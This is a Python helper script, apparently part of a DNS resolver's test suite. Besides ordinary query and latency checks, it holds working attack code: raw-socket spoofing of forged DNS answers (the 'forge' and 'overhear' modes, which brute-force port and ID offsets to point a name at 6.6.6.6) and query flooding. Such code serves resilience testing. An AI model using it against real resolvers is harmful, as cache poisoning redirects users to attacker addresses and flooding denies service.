#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""dns - what dns.sh needs to ask and to lie with.

    ask SERVER NAME PORT ID          one query from that port under that id: prints the address of the first answer
    forge SERVER VICTIM PORT ID NAME DELTAS STOP   answers 6.6.6.6 to NAME, as from SERVER's port 53, to VICTIM's PORT and ID, each shifted by
                                     DELTAS "port:id,port:id..."; every 20 ms, twenty times at least, until there is a file STOP
    overhear LOG SERVER VICTIM NAME DELTAS STOP   the same with port and id that LOG tells of, the name server's, as soon as it does
    silent SERVER COUNT SECONDS      so many queries that nobody answers, renewed whenever one is refused or given up
    flood SERVER PORT NAME SECONDS   as many as can be sent, and the answers thrown away
    steady SERVER NAME ADDRESS SECONDS  one after the other, each asked again every 0.3 s until it is answered: prints how many were answered,
                                     how often one was asked at most, and how many answers were wrong
    times SERVER NAME COUNT          so many, one after the other: prints how many were answered and the 99th percentile in us
"""
import os
import random
import re
import socket
import struct
import sys
import time

A = 1


def query(name, ident):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">6H", ident, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", A, 1)


def forged(name, ident):
    whole = query(name, ident)
    return (struct.pack(">6H", ident, 0x8180, 1, 1, 0, 0) + whole[12:] + struct.pack(">3HIH", 0xC00C, A, 1, 60, 4) + bytes([6, 6, 6, 6]))


def udp(seconds):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(seconds)
    return sock


def ask(server, name, port, ident):
    with udp(3) as sock:
        sock.bind(("", port))
        sock.sendto(query(name, ident), (server, 53))
        try:
            data, _ = sock.recvfrom(4096)
            print(socket.inet_ntoa(data[-4:]) if data[3] & 15 == 0 else f"code {data[3] & 15}")
        except TimeoutError:
            print("nothing")


def forge(server, victim, port, ident, name, deltas, stop):
    """Raw: the source is not ours. The kernel fills in IPv4's checksum and length; UDP needs none."""
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        while sent < 20 or not os.path.exists(stop):
            sent += 1
            for delta in deltas.split(","):
                by_port, by_id = map(int, delta.split(":"))
                body = forged(name, (ident + by_id) & 0xFFFF)
                head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(body), 0, 0, 64, 17, 0, socket.inet_aton(server),
                                   socket.inet_aton(victim))
                sock.sendto(head + struct.pack(">4H", 53, port + by_port, 8 + len(body), 0) + body, (victim, 0))
            time.sleep(0.02)


def overhear(log, server, victim, name, deltas, stop):
    """It has begun before the query, since to start takes longer than the answer does."""
    while not os.path.exists(stop):
        with open(log, encoding="utf-8") as file:
            heard = re.search(r"^udp (\d+) (\d+) %s " % re.escape(name), file.read(), re.M)
        if heard:
            forge(server, victim, int(heard[1]), int(heard[2]), name, deltas, stop)
            return
        time.sleep(0.005)


def silent(server, count, seconds):
    end = time.monotonic() + seconds
    with udp(0.05) as sock:
        while time.monotonic() < end:
            for _ in range(count):
                sock.sendto(query("silent.test", random.randrange(65536)), (server, 53))
            try:
                while time.monotonic() < end:
                    sock.recv(4096)
            except TimeoutError:
                pass


def flood(server, port, name, seconds):
    end = time.monotonic() + seconds
    data = query(name, 1)
    with udp(0) as sock:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
        sock.connect((server, port))
        sent = 0
        while time.monotonic() < end:
            for _ in range(1000):
                try:
                    sock.send(data)
                    sent += 1
                except OSError:
                    pass
    print(sent)


def steady(server, name, address, seconds):
    answered = most = wrong = ident = 0
    end = time.monotonic() + seconds
    with udp(0.3) as sock:
        sock.connect((server, 53))
        while time.monotonic() < end:
            ident = (ident + 1) & 0xFFFF
            for tries in range(1, 100):
                try:
                    sock.send(query(name, ident))
                    data = sock.recv(4096)
                    while struct.unpack(">H", data[:2])[0] != ident:  # a late one, of a query asked twice
                        data = sock.recv(4096)
                    if data[3] & 15 == 2:  # SERVFAIL: somebody who does not know yet; to be asked again
                        time.sleep(0.05)
                        continue
                    wrong += data[3] & 15 != 0 or socket.inet_ntoa(data[-4:]) != address
                    answered += 1
                    break
                except (TimeoutError, ConnectionError):
                    pass
            most = max(most, tries)
            time.sleep(0.002)
    print(answered, most, wrong)


def times(server, name, count):
    took, answered = [], 0
    with udp(0.5) as sock:
        sock.connect((server, 53))
        for ident in range(count):
            begin = time.monotonic()
            sock.send(query(name, ident))
            try:
                while struct.unpack(">H", sock.recv(4096)[:2])[0] != ident:
                    pass
                answered += 1
            except TimeoutError:
                pass
            took.append(time.monotonic() - begin)
    took.sort()
    print(answered, int(took[count * 99 // 100] * 1e6))


def main():
    verb, rest = sys.argv[1], sys.argv[2:]
    if verb == "forge":
        forge(rest[0], rest[1], int(rest[2]), int(rest[3]), rest[4], rest[5], rest[6])
    elif verb == "overhear":
        overhear(*rest)
    elif verb == "ask":
        ask(rest[0], rest[1], int(rest[2]), int(rest[3]))
    elif verb == "silent":
        silent(rest[0], int(rest[1]), float(rest[2]))
    else:
        {"flood": lambda: flood(rest[0], int(rest[1]), rest[2], float(rest[3])), "steady": lambda: steady(rest[0], rest[1], rest[2], float(rest[3])),
         "times": lambda: times(rest[0], rest[1], int(rest[2]))}[verb]()


main()
